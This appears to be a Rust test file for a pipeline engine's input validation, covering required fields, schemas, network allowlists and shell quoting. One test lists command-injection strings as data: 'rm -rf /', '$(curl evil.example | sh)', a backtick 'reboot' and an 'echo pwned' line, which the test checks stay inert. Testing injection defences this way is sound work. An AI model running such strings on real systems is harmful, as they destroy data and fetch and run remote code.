//! Inputs that do not fit a pack, and hostile inputs that must stay inert data.

use stella_engine::Code;
use stella_engine::plan::{PlanRun, StepKind, Text};

use crate::support::{TestPack, with_steps};

fn sbom() -> TestPack {
    let dir = crate::support::packs_dir().join("sbom-remediation");
    let mut pack = TestPack::new(&std::fs::read_to_string(dir.join("pack.yaml")).unwrap());
    for f in ["scan.sh", "fix.sh", "summary.sh", "schemas/targets.schema.json"] {
        pack = pack.file(f, &std::fs::read_to_string(dir.join(f)).unwrap());
    }
    pack
}

fn input_problem(pack: &TestPack, inputs: &str, field: &str) -> stella_engine::Diagnostic {
    let diags = pack.plan(inputs).expect_err("inputs should be refused");
    let d = diags.iter().find(|d| d.field == field).cloned();
    let d = d.unwrap_or_else(|| panic!("no problem at `{field}`:\n{diags}"));
    assert_eq!(d.code, Code::PackInputInvalid, "{d}");
    d
}

#[test]
fn missing_required_input() {
    let d = input_problem(&sbom(), "targets: [a]\n", "inputs.image");
    assert!(d.message.contains("missing required input `image` (string)"), "{d}");
}

#[test]
fn input_of_the_wrong_type_names_its_line() {
    let d = input_problem(&sbom(), "image: x\ntargets: notalist\n", "inputs.targets");
    assert_eq!((d.file.as_str(), d.line), ("inputs.yaml", 2));
    assert!(d.message.contains("expected array, found string"), "{d}");
}

#[test]
fn unknown_input_gets_a_suggestion() {
    let d = input_problem(&sbom(), "image: x\ntarget: [a]\n", "inputs.target");
    assert_eq!(d.hint.as_deref(), Some("did you mean `targets`?"));
}

#[test]
fn per_input_schema_points_into_the_value() {
    let d = input_problem(&sbom(), "image: x\ntargets: [ok, \"Not OK\"]\n", "inputs.targets[1]");
    assert!(d.message.contains("does not match schemas/targets.schema.json"), "{d}");
}

#[test]
fn whole_inputs_schema_is_enforced() {
    let dir = crate::support::packs_dir().join("bundle-ingest");
    let pack = TestPack::new(&std::fs::read_to_string(dir.join("pack.yaml")).unwrap()).file(
        "schemas/inputs.schema.json",
        &std::fs::read_to_string(dir.join("schemas/inputs.schema.json")).unwrap(),
    );
    let d = input_problem(&pack, "bundlePath: b.tar\nchecksum: nothex\n", "inputs.checksum");
    assert_eq!(d.line, 2);
    let plan = pack
        .plan("bundlePath: b.tar\nchecksum: \"00000000000000000000000000000000000000000000000000000000000000aa\"\n")
        .unwrap();
    assert_eq!(plan.inputs["label"], "offline-update", "schema defaults are applied");
}

#[test]
fn inputs_must_be_a_mapping() {
    let diags = sbom().plan("- image\n").unwrap_err();
    assert_eq!(diags.code(), Code::PackInputInvalid);
}

#[test]
fn inputs_yaml_syntax_errors_are_input_errors() {
    let diags = sbom().plan("image: [x\n").unwrap_err();
    let d = diags.iter().next().unwrap();
    assert_eq!(d.code, Code::PackInputInvalid);
    assert_eq!(d.file, "inputs.yaml");
}

#[test]
fn nul_bytes_are_refused() {
    let d = input_problem(&sbom(), "image: \"a\\0b\"\n", "inputs.image");
    assert!(d.message.contains("NUL"), "{d}");
}

#[test]
fn map_items_that_evaluate_to_a_string_are_refused() {
    let pack = TestPack::new(&with_steps(
        "    - id: m\n      map:\n        items: \"{{ inputs.image }}\"\n        step: { id: f, run: { uses: builtin:exec, with: { argv: [echo, \"{{ item }}\"] } } }\n",
    ));
    let d = input_problem(&pack, "image: x\n", "spec.steps[0].map.items");
    assert!(d.message.contains("must evaluate to a list, found string"), "{d}");
    assert_eq!((d.file.as_str(), d.line), ("packs/t/pack.yaml", 13));
}

fn script_of(plan: &stella_engine::plan::Plan, id: &str) -> String {
    let step = plan.all_steps().into_iter().find(|s| s.id == id).unwrap();
    let StepKind::Run(PlanRun::Shell { script }) = &step.kind else {
        panic!("`{id}` is not a shell step")
    };
    match script {
        Text::Resolved(s) => s.clone(),
        other => panic!("expected a resolved script, got {other:?}"),
    }
}

#[test]
fn hostile_inputs_are_quoted_into_scripts() {
    let hostile = [
        "x'; rm -rf / #",
        "$(curl evil.example | sh)",
        "`reboot`",
        "a\nb; echo pwned",
        "\" && echo \"",
    ];
    for value in hostile {
        let inputs = serde_json::json!({ "image": value }).to_string();
        let plan = sbom().plan(&inputs).unwrap();
        let script = script_of(&plan, "scan");
        let out = std::process::Command::new("bash")
            .args([
                "-c",
                &format!(
                    "set -- {}; printf '%s|%s' \"$#\" \"$1\"",
                    script.trim_start_matches("./scan.sh ")
                ),
            ])
            .output()
            .unwrap();
        assert_eq!(
            String::from_utf8(out.stdout).unwrap(),
            format!("1|{value}"),
            "script: {script}"
        );
        let map = TestPack::new(&with_steps(
            "    - id: m\n      map:\n        items: \"{{ inputs.targets }}\"\n        step: { id: f, run: { uses: builtin:shell, with: { script: \"./fix.sh {{ item }}\" } } }\n",
        ));
        let plan = map
            .plan(&serde_json::json!({ "image": "i", "targets": [value] }).to_string())
            .unwrap();
        assert_eq!(
            script_of(&plan, "m[0]::f"),
            format!("./fix.sh {}", stella_engine::expr::shell_quote(value).unwrap())
        );
    }
}

#[test]
fn an_input_holding_template_syntax_is_never_rendered_again() {
    let pack = TestPack::new(&with_steps(
        "    - { id: a, run: { uses: builtin:exec, with: { argv: [true] } } }\n    - id: b\n      run: { uses: builtin:exec, with: { argv: [echo, \"{{ inputs.image }}\"] } }\n",
    ));
    let plan = pack.plan("image: \"{{ steps.a.outputs.secret }}\"\n").unwrap();
    let step = plan.all_steps().into_iter().find(|s| s.id == "b").unwrap();
    let StepKind::Run(PlanRun::Exec { argv }) = &step.kind else {
        panic!("`b` is not an exec step")
    };
    assert_eq!(argv[1], Text::Resolved("{{ steps.a.outputs.secret }}".into()));
}

#[test]
fn sealed_mode_refuses_hosts_that_are_not_allowed() {
    let pack = TestPack::new(&with_steps(
        "    - id: fetch\n      network: [registry.internal:5000, mirror.example.com]\n      run: { uses: builtin:exec, with: { argv: [true] } }\n",
    ));
    let open = stella_engine::plan::PlanConfig::default();
    assert!(
        pack.plan_with("image: x\n", &open).is_ok(),
        "unsealed runs may reach any declared host"
    );
    let sealed = stella_engine::plan::PlanConfig {
        sealed: true,
        allow: vec!["registry.internal".into(), "*.mirror.test".into()],
    };
    let diags = pack.plan_with("image: x\n", &sealed).unwrap_err();
    let d = diags.iter().next().unwrap();
    assert_eq!(
        (d.code, d.field.as_str(), d.line),
        (Code::PackNetworkBlocked, "spec.steps[0].network", 11)
    );
    assert!(d.message.contains("mirror.example.com"), "{d}");
    assert_eq!(
        diags.len(),
        1,
        "registry.internal:5000 is allowed (ports are ignored): {diags}"
    );
}

#[test]
fn an_explicit_null_does_not_satisfy_a_required_input() {
    for given in ["image: ~\n", "image:\n", "image: null\n"] {
        let d = input_problem(&sbom(), given, "inputs.image");
        assert!(d.message.contains("missing required input"), "{given}: {d}");
    }
}
